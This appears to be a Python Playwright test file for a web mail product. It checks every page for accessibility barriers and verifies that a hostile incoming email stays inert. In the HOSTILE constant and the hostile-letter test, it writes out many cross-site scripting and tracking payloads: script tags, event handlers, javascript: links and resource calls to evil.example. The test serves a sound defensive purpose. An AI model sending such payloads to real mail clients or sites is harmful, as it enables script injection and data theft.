"""Every page for everybody: no barrier that axe finds, and no letter that acts."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e import barriers, every_page
from tests.e2e.browsing import window
from tests.e2e.office import EMAIL, PASSWORD, Office
from tests.e2e.standing_demo import Demo
from tests.mail import mail
from tests.product import Product

MISSING = "/nowhere"
OPEN_PAGES = (
    "/account/login/",
    "/account/password/forgotten",
    "/demo/",
    "/demo/olu@customer.example",
    MISSING,
)
# Some of those that must be among the pages found, or the search is broken.
SURELY = {
    "/inbox",
    *every_page.CONVERSATIONS,
    "/cases/1",
    "/outbox",
    "/system/mailboxes/1",
    "/system/mailboxes/1/answer-settings",
    "/system/mailboxes/1/rules/new",
    "/system/rules/1",
    "/system/settings",
    "/system/trials/1",
    "/system/user-sign-in/new",
    "/account/sessions/",
    "/account/2fa/webauthn/",
}

# The parts of a letter that would act, call home or break out, were they let through.
HOSTILE = """
<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/base/">
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url(https://evil.example/import.css);
  body { background: url(https://evil.example/background.png) }
  @font-face { font-family: e; src: url(https://evil.example/font.woff) }</style>
<script>alert("script"); top.location = "https://evil.example/script"</script>
</head><body onload="alert('onload')" background="https://evil.example/old.png">
<p id="words">Dear team, this letter only looks harmless.</p>
<img src="https://evil.example/pixel.gif" onerror="alert('onerror')">
<img srcset="https://evil.example/set.png 2x" src="x" onerror="alert('x')">
<picture><source srcset="https://evil.example/source.png"><img src="//evil.example/i"></picture>
<svg onload="alert('svg')"><script>alert('svg script')</script>
  <image href="https://evil.example/svg.png"/></svg>
<math><mtext><img src=x onerror=alert('math')></mtext></math>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed">
<video src="https://evil.example/video" poster="https://evil.example/poster" autoplay></video>
<audio src="https://evil.example/audio" autoplay></audio>
<form action="https://evil.example/form"><input name="password" autofocus
  onfocus="alert('focus')"><button>Send</button></form>
<details open ontoggle="alert('toggle')"><summary>More</summary>more</details>
<a href="javascript:alert('link')">A link</a>
<a href="&#106;avascript:alert('encoded')">Another</a>
<div style="position:fixed;inset:0;background:url('https://evil.example/cover.png')"
  onmouseover="alert('over')">.</div>
</body></html>
"""


@pytest.fixture(scope="module")
def demo() -> Iterator[Demo]:
    """One demo for all looks at its pages; nothing is changed in it."""
    with Demo.started() as demo:
        yield demo


@pytest.fixture(scope="module")
def pages(chromium: Browser, demo: Demo) -> list[str]:
    """The paths of all pages that an administrator can open."""
    with window(chromium, demo.address) as opened:
        page = opened.sign_in("max@acme.example", demo.password)
        expect(page.locator("#rows .rows-item")).to_have_count(5)
        found = every_page.found_by(page, demo.address)
    assert set(found) >= SURELY, SURELY - set(found)
    return found


def test_axe_finds_no_barrier_on_any_page(
    chromium: Browser, demo: Demo, pages: list[str]
) -> None:
    found: list[str] = []
    with window(chromium, demo.address, is_for_axe=True) as opened:
        barriers.prepare(opened)
        for path in OPEN_PAGES:
            found += barriers.on(opened, path)
        opened.sign_in("max@acme.example", demo.password)
        for path in pages:
            found += barriers.on(opened, path)
        opened.mishaps = [each for each in opened.mishaps if MISSING not in each]
    assert not found, "\n".join(found)


def test_axe_finds_no_barrier_on_the_first_page(
    chromium: Browser, empty_product: Product
) -> None:
    with window(chromium, empty_product.address, is_for_axe=True) as opened:
        barriers.prepare(opened)
        found = barriers.on(opened, "/first-run")
    assert not found, "\n".join(found)


def test_a_hostile_letter_does_nothing_anywhere(
    chromium: Browser, office: Office
) -> None:
    raw = mail(
        from_='"<script>alert(1)</script>" <mallory@evil.example>',
        subject="<img src=x onerror=alert('subject')>",
        text="<script>alert('text')</script> https://evil.example/\"onclick=alert(1)",
        html=HOSTILE,
        attachments=[
            ("page.html", "text/html", HOSTILE.encode()),
            ("<img src=x onerror=alert(1)>.svg", "image/svg+xml", HOSTILE.encode()),
        ],
    )
    office.dovecot.deliver(office.login, raw, sender="mallory@evil.example")
    with window(chromium, office.product.address) as opened:
        page = opened.sign_in(EMAIL, PASSWORD)
        page.locator("#rows .rows-link").first.click()
        frame = page.frame_locator(".letter-frame").first
        expect(frame.locator("body")).to_contain_text("only looks harmless")
        for link in frame.locator("a").all():
            assert not (link.get_attribute("href") or "").startswith("java")
        assert frame.locator("form, iframe, object, embed, script").count() == 0
        opened.picture("hostile")
        ids = office.product.query(
            "SELECT id FROM letterbox_message WHERE direction = 'in'"
        )
        for (message_id,) in ids:
            for path in ("", "/body", "/raw", "/attachments/0", "/attachments/1"):
                _look_at(page, f"{opened.address}/messages/{message_id}{path}")
        for path in ("/cases/1", "/contacts", "/contacts/1", "/search?q=harmless"):
            _look_at(page, opened.address + path)
        # What is shown without a page of ours around it has no mark of its own.
        opened.mishaps = [each for each in opened.mishaps if "favicon" not in each]


def _look_at(page: Page, address: str) -> None:
    """Show it as a page of its own, unless it is saved as a file."""
    answer = page.request.get(address)
    assert answer.ok, address
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    if "attachment" not in answer.headers.get("content-disposition", ""):
        page.goto(address)
